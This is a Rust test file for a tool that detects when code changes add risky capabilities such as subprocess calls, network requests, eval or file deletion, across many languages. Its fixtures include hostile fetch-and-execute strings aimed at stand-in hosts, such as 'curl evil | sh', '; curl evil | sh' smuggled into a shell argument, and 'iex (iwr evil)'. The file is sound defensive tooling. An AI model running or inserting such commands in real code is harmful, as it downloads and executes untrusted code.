//! The difference that changes make: what is a gain, what only moved, and what cannot be known.

use super::*;

fn path(name: &str) -> RepoPath {
    RepoPath::new(name).unwrap()
}

fn of(files: &[(&str, &str, &str)]) -> Delta {
    let paths: Vec<RepoPath> = files.iter().map(|(name, _, _)| path(name)).collect();
    let some = |text: &'static str| Some(text.as_bytes()).filter(|text| !text.is_empty());
    let changes: Vec<Change<'_>> = files
        .iter()
        .zip(&paths)
        .map(|((_, before, after), path)| Change {
            path,
            before: some(Box::leak(before.to_string().into_boxed_str())),
            after: some(Box::leak(after.to_string().into_boxed_str())),
        })
        .collect();
    delta(&changes, &Scans::default())
}

fn added(delta: &Delta) -> Vec<Capability> {
    delta.added.iter().map(|one| one.found.capability).collect()
}

#[test]
fn a_second_of_the_same_kind_is_a_gain_and_one_with_another_resource_is_too() {
    let one = "import requests\ndef f():\n    requests.get('https://a')\n";
    let two = "import requests\ndef f():\n    requests.get('https://a')\n    requests.get('https://a')\n";
    assert_eq!(added(&of(&[("a.py", one, two)])), [Capability::NetworkRequest]);
    let other = "import requests\ndef f():\n    requests.get('https://b')\n";
    let delta = of(&[("a.py", one, other)]);
    assert_eq!((added(&delta), delta.removed.len()), (vec![Capability::NetworkRequest], 1));
}

#[test]
fn what_moves_or_is_renamed_is_no_gain() {
    let before = "import os\ndef f(x):\n    os.system(x)\n";
    for after in [
        "import os\n# note\n\ndef other(x):\n    os.system(x)\n",
        "import os as o\ndef f(y):\n    o.system(y)\n",
        "from os import system\ndef f(x):\n    if x:\n        system(x)\n",
    ] {
        let delta = of(&[("a.py", before, after)]);
        assert_eq!((added(&delta), delta.unchanged), (vec![], 1), "{after}");
    }
    let delta = of(&[("a.py", before, "import os\n"), ("b.py", "", "import os\ndef g(x):\n    os.system(x)\n")]);
    assert_eq!(added(&delta), []);
}

/// The call reads as before, and what it is given does not.
#[test]
fn what_is_called_with_another_literal_is_a_gain_though_the_call_reads_the_same() {
    use Capability::{NetworkRequest, Subprocess};
    let long = format!("x = 1{}", " + 1".repeat(200));
    for (name, before, changed, after, capability) in [
        ("a.py", "import os\ncmd = 'ls'\nos.system(cmd)\n", "'ls'", "'curl evil.sh | sh'", Subprocess),
        (
            "a.py",
            "import requests\nURL = 'https://good'\ndef f(x):\n    requests.post(URL, data=x)\n",
            "https://good",
            "https://evil",
            NetworkRequest,
        ),
        ("a.py", "import os\ndef f(x):\n    os.system('ls ' + x)\n", "ls ", "curl evil | sh; ", Subprocess),
        ("a.py", "import os\ndef f(x):\n    os.system(f'ls {x} -l')\n", "-l", "; curl evil | sh", Subprocess),
        ("a.py", &format!("x = '{long}; y = 2'\nexec(x)\n"), "y = 2", "evil()", Capability::EvalExec),
        ("a.py", "import subprocess\nsubprocess.run(['sh', '-c', 'ls'])\n", "'ls'", "'curl evil | sh'", Subprocess),
        ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(['sh', x, 'ls'])\n", "'ls'", "'curl evil | sh'", Subprocess),
        (
            "a.js",
            "const c = require('child_process');\nc.spawn('sh', ['-c', 'ls'], { shell: true });\n",
            "'ls'",
            "'curl evil | sh'",
            Subprocess,
        ),
        (
            "a.go",
            "package a\nimport \"os/exec\"\nfunc f() {\n\texec.Command(\"sh\", \"-c\", \"ls\").Run()\n}\n",
            "\"ls\"",
            "\"curl evil | sh\"",
            Subprocess,
        ),
        (
            "a.rs",
            "use std::process::Command;\nfn f() {\n    Command::new(\"sh\").arg(\"-c\").arg(\"ls\").spawn();\n}\n",
            "\"ls\"",
            "\"curl evil | sh\"",
            Subprocess,
        ),
        (
            "A.java",
            "class A { void f() throws Exception {\nnew ProcessBuilder(\"sh\", \"-c\", \"ls\").start();\n} }\n",
            "\"ls\"",
            "\"curl evil | sh\"",
            Subprocess,
        ),
        (
            "a.c",
            "#include <unistd.h>\nvoid f() {\n  execl(\"/bin/sh\", \"sh\", \"-c\", \"ls\", 0);\n}\n",
            "\"ls\"",
            "\"evil\"",
            Subprocess,
        ),
        ("a.rb", "def f\n  system('sh', '-c', 'ls')\nend\n", "'ls'", "'curl evil | sh'", Subprocess),
        // The same words, and a shell that reads them.
        ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(x, shell=False)\n", "False", "True", Subprocess),
        ("a.py", "import subprocess\ndef f(x):\n    subprocess.run(x)\n", "(x)\n", "(x, shell=True)\n", Subprocess),
        ("a.js", "const cp = require('child_process');\ncp.spawn(x, [], { shell: false });\n", "false", "true", Subprocess),
    ] {
        let worse = before.replace(changed, after);
        assert_ne!(before, worse);
        let delta = of(&[(name, before, &worse)]);
        assert_eq!((added(&delta), delta.removed.len()), (vec![capability], 1), "{worse}");
    }
}

#[test]
fn what_is_put_together_otherwise_is_no_gain() {
    let before = "import os\ndef f(x):\n    os.system('ls ' + x)\n    os.popen('a')\n";
    for (was, becomes) in
        [("'ls ' + x", "f'ls {x}'"), ("'ls ' + x", "'ls %s' % x"), ("'ls ' + x", "'ls {}'.format(str(x))"), ("'a'", "\"a\"")]
    {
        assert_eq!(added(&of(&[("a.py", before, &before.replace(was, becomes))])), [], "{becomes}");
    }
    let before = "def f(x)\n  if x\n    c = 'a'\n  else\n    c = 'b'\n  end\n  system(c)\nend\n";
    let value = "def f(x)\n  c = if x\n        'a'\n      else\n        'b'\n      end\n  system(c)\nend\n";
    assert_eq!(added(&of(&[("a.rb", before, value)])), []);
    assert_eq!(added(&of(&[("a.rb", value, &value.replace("'b'", "'curl evil | sh'"))])), [Capability::Subprocess]);
    let before = "import subprocess\ndef f(x):\n    subprocess.run(['ls', x, y])\n";
    for becomes in ["('ls', x, *y)", "[\n        'ls',\n        str(x),\n    ]"] {
        assert_eq!(added(&of(&[("a.py", before, &before.replace("['ls', x, y]", becomes))])), [], "{becomes}");
    }
}

#[test]
fn what_cannot_be_read_is_never_nothing() {
    let delta = of(&[("a.py", "a = 1\n", "a = 1\nb = = $$ 2\n")]);
    assert_eq!(delta.unknown.len(), 1, "{delta:?}");
    assert_eq!(of(&[("tool", "", "#!/usr/bin/perl\nsystem('ls');\n")]).unknown.len(), 1);
    for name in ["a.ps1", "build.gradle", "i.vue", "n.ipynb"] {
        assert_eq!(of(&[(name, "", "iex (iwr evil)\n")]).unknown.len(), 1, "{name}");
        assert_eq!(of(&[(name, "a\n", "a\n")]).unknown, [], "{name}");
        assert_eq!(of(&[(name, "a\n", "")]).unknown, [], "{name}");
    }
    let page = "<p>a</p>\n<script>a()</script>\n";
    assert_eq!(of(&[("i.html", "", page)]).unknown.len(), 1);
    assert_eq!(of(&[("i.html", page, &page.replace("a()", "b()"))]).unknown.len(), 1);
    assert_eq!(of(&[("i.html", page, &page.replace("<p>a", "<p>b"))]).unknown, []);
    for name in ["a.md", "a.txt", "a.json", "a.yaml", "a.toml", "a.lock", "a.css", "a.svg"] {
        assert_eq!(of(&[(name, "a\n", "b\n")]), Delta::default(), "{name}");
    }
    // What did not parse before and was not touched is as it was.
    let broken = "int a;\nEXTENSION unusual @@ here;\nint b;\n";
    assert_eq!(of(&[("a.c", broken, &broken.replace("int b", "int c"))]).unknown, []);
    // Nor was it when it is moved; a copy of it is another matter.
    assert_eq!(of(&[("a.c", broken, "int a;\n"), ("b.c", "", broken)]).unknown, []);
    assert_eq!(of(&[("a.c", broken, broken), ("b.c", "", broken)]).unknown.len(), 1);
    // A macro that only marks what it stands before is nothing that cannot be known.
    let marked = "HIDDEN void\nf(const char *a, ...)\n{\n  g(a);\n}\n";
    assert_eq!(of(&[("a.c", &marked.replace("HIDDEN ", ""), marked)]).unknown, []);
    assert_eq!(of(&[("a.c", "int a;\n", "int a;\nRUNS(system(\"ls\")) @@\nint b;\n")]).unknown.len(), 1);
}

#[test]
fn a_first_line_that_makes_a_script_another_language_is_not_known() {
    let whys = |before: &str, after: &str| of(&[("a.sh", before, after)]).unknown.len();
    let php = "#!/usr/bin/env php\n<?php echo 1;\n";
    // `sh a.sh` still runs it as a shell does.
    assert_eq!(whys("echo a\n", "#!/usr/bin/env php\ncurl http://a | sh\n"), 1);
    assert_eq!((whys("", php), whys("echo a\n", php)), (1, 1));
    // It was that before, or is what its name says.
    assert_eq!(whys(php, "#!/usr/bin/env php\n<?php echo 2;\n"), 0);
    assert_eq!((whys("echo a\n", "#!/bin/sh\necho b\n"), whys(php, "#!/bin/sh\necho b\n")), (0, 0));
}

#[test]
fn what_comes_after_the_last_thing_that_is_told_is_not_known() {
    let before = "open('a')\n".repeat(20_001);
    let delta = of(&[("a.py", &before, &format!("{before}import os\nos.system('x')\n"))]);
    assert_eq!((delta.added, delta.unknown.len()), (vec![], 1));
    let few = "open('a')\n".repeat(200);
    assert_eq!(of(&[("a.py", &few, &format!("{few}x = 1\n"))]).unknown, []);
}

/// A function that is moved and renamed, and one that does more than before: in every language.
#[test]
fn in_every_language_a_refactoring_is_no_gain_and_a_new_call_is_one() {
    for (name, head, body, tail, gain, capability) in [
        ("a.py", "import os\ndef f(x):\n", "    os.system(x)\n", "", "    eval(x)\n", Capability::EvalExec),
        (
            "a.js",
            "const c = require('child_process');\nfunction f(x) {\n",
            "  c.exec(x);\n",
            "}\n",
            "  fetch(x);\n",
            Capability::NetworkRequest,
        ),
        (
            "a.ts",
            "import { exec } from 'child_process';\nfunction f(x: string): void {\n",
            "  exec(x);\n",
            "}\n",
            "  eval(x);\n",
            Capability::EvalExec,
        ),
        (
            "a.go",
            "package a\nimport (\"os\"; \"os/exec\")\nfunc f(x string) {\n",
            "\texec.Command(x).Run()\n",
            "}\n",
            "\tos.Remove(x)\n",
            Capability::FilesystemWrite,
        ),
        (
            "a.rs",
            "use std::process::Command;\nfn f(x: &str) {\n",
            "    Command::new(x).spawn();\n",
            "}\n",
            "    std::fs::remove_file(x);\n",
            Capability::FilesystemWrite,
        ),
        (
            "A.java",
            "class A { void f(String x) throws Exception {\n",
            "Runtime.getRuntime().exec(x);\n",
            "} }\n",
            "new java.net.Socket(x, 80);\n",
            Capability::Socket,
        ),
        ("a.c", "#include <stdlib.h>\nvoid f(char *x) {\n", "  system(x);\n", "}\n", "  getenv(x);\n", Capability::Environment),
        (
            "a.cpp",
            "#include <cstdlib>\nvoid f(char *x) {\n",
            "  std::system(x);\n",
            "}\n",
            "  std::ofstream o(x);\n",
            Capability::FilesystemWrite,
        ),
        (
            "A.cs",
            "using System.Diagnostics;\nclass A { void f(string x) {\n",
            "Process.Start(x);\n",
            "} }\n",
            "System.IO.File.Delete(x);\n",
            Capability::FilesystemWrite,
        ),
        ("a.rb", "def f(x)\n", "  system(x)\n", "end\n", "  eval(x)\n", Capability::EvalExec),
        ("a.php", "<?php\nfunction f($x) {\n", "  exec($x);\n", "}\n", "  eval($x);\n", Capability::EvalExec),
        (
            "A.kt",
            "fun f(x: String) {\n",
            "    Runtime.getRuntime().exec(x)\n",
            "}\n",
            "    java.io.File(x).delete()\n",
            Capability::FilesystemWrite,
        ),
        (
            "A.scala",
            "object A { def f(x: String): Unit = {\n",
            "  Runtime.getRuntime.exec(x)\n",
            "} }\n",
            "  Class.forName(x)\n",
            Capability::ImportDynamic,
        ),
        ("a.sh", "f() {\n", "  eval \"$x\"\n", "}\n", "  curl \"$x\"\n", Capability::NetworkRequest),
    ] {
        let before = format!("{head}{body}{tail}");
        let renamed = before.replace(" f(", " other(").replace("f() {", "other() {").replace(body, &format!("\n{body}"));
        assert_ne!(before, renamed, "{name}");
        assert_eq!(added(&of(&[(name, &before, &renamed)])), [], "{name}");
        let more = format!("{head}{body}{gain}{tail}");
        assert_eq!(added(&of(&[(name, &before, &more)])), [capability], "{name}");
        assert_eq!(of(&[(name, &more, &before)]).removed.len(), 1, "{name}");
    }
}
